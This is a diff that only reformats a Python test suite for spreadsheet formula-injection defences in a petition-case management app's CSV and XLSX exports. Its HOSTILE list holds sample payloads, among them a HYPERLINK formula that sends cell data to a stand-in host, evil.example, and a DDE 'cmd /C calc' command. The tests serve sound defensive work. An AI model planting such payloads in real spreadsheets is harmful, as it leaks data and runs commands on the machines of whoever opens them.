@@ -14,8 +14,14 @@ import exports
 from documents.custom_fields import FieldDefinition as Field
 from exports.cells import safe_cell
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
-           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]  # fmt: skip
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -23,9 +29,26 @@ def test_text_that_a_spreadsheet_would_run_becomes_plain_text(text):
     assert safe_cell(text) == "'" + text
 
 
-@pytest.mark.parametrize("value", [3, -3, 2.5, -0.25, True, None, datetime.date(2024, 5, 1),
-                                   datetime.datetime(2024, 5, 1, 9, 30), "-3", "+3", "-0.5",
-                                   "张三", "2024-05-01", "a=b", " 说明"])  # fmt: skip
+@pytest.mark.parametrize(
+    "value",
+    [
+        3,
+        -3,
+        2.5,
+        -0.25,
+        True,
+        None,
+        datetime.date(2024, 5, 1),
+        datetime.datetime(2024, 5, 1, 9, 30),
+        "-3",
+        "+3",
+        "-0.5",
+        "张三",
+        "2024-05-01",
+        "a=b",
+        " 说明",
+    ],
+)
 def test_numbers_dates_and_ordinary_text_stay_as_they_are(value):
     assert safe_cell(value) == value and type(safe_cell(value)) is type(value)
 
@@ -37,8 +60,9 @@ def test_control_characters_are_dropped():
 
 
 def _card(unit, **values):
-    card = documents.CaseCard(unit=unit, petitioner="张三", subject="反映问题",
-                              registered_on=datetime.date(2024, 3, 1))  # fmt: skip
+    card = documents.CaseCard(
+        unit=unit, petitioner="张三", subject="反映问题", registered_on=datetime.date(2024, 3, 1)
+    )
     for name, value in values.items():
         setattr(card, name, value)
     return card.save()
@@ -56,9 +80,14 @@ def _sheet(response):
 
 def test_the_card_export_neutralises_formulas_in_csv_and_xlsx(app, client):
     unit = documents.Unit(name="某乡").save()
-    documents.FieldSet(unit=unit, target="case_card", fields=[
-        Field(key="times", label="=来访次数", type="number"),
-        Field(key="note", label="备注", type="text")]).save_new_version()  # fmt: skip
+    documents.FieldSet(
+        unit=unit,
+        target="case_card",
+        fields=[
+            Field(key="times", label="=来访次数", type="number"),
+            Field(key="note", label="备注", type="text"),
+        ],
+    ).save_new_version()
     for n, text in enumerate(HOSTILE):
         # a name is one line: the tab and carriage return ones go to the 案由 only
         _card(unit, petitioner=HOSTILE[n % 4], subject=text, extra={"times": -3, "note": text})
@@ -67,8 +96,9 @@ def test_the_card_export_neutralises_formulas_in_csv_and_xlsx(app, client):
     rows = list(csv.reader(io.StringIO(text)))
     header, body = rows[0], rows[1:]
     assert "'=来访次数" in header
-    petitioner, subject, times, note = (header.index(h) for h in ("信访人", "案由",
-                                                                   "'=来访次数", "备注"))
+    petitioner, subject, times, note = (
+        header.index(h) for h in ("信访人", "案由", "'=来访次数", "备注")
+    )
     assert sorted(row[subject] for row in body) == sorted("'" + t for t in HOSTILE)
     assert {row[petitioner] for row in body} == {"'" + t for t in HOSTILE[:4]}
     assert sorted(row[note] for row in body) == sorted("'" + t for t in HOSTILE)
@@ -93,10 +123,17 @@ def test_a_stored_control_character_does_not_break_the_xlsx_export(app, client):
 
 
 def test_report_workbooks_neutralise_text_and_keep_numbers_and_dates():
-    data = exports.tables_xlsx("=标题", [{
-        "title": "逾期\x00件", "headers": ["信访人", "件数", "增减", "日期", "=备注"],
-        "rows": [[t, "5", "-2", datetime.date(2024, 5, 1), t] for t in HOSTILE]
-        + [["张\x00三", 7, "+3", datetime.datetime(2024, 5, 1, 9, 0), "ok"]]}])  # fmt: skip
+    data = exports.tables_xlsx(
+        "=标题",
+        [
+            {
+                "title": "逾期\x00件",
+                "headers": ["信访人", "件数", "增减", "日期", "=备注"],
+                "rows": [[t, "5", "-2", datetime.date(2024, 5, 1), t] for t in HOSTILE]
+                + [["张\x00三", 7, "+3", datetime.datetime(2024, 5, 1, 9, 0), "ok"]],
+            }
+        ],
+    )
     sheet = openpyxl.load_workbook(io.BytesIO(data)).active
     cells = [cell for row in sheet.iter_rows() for cell in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
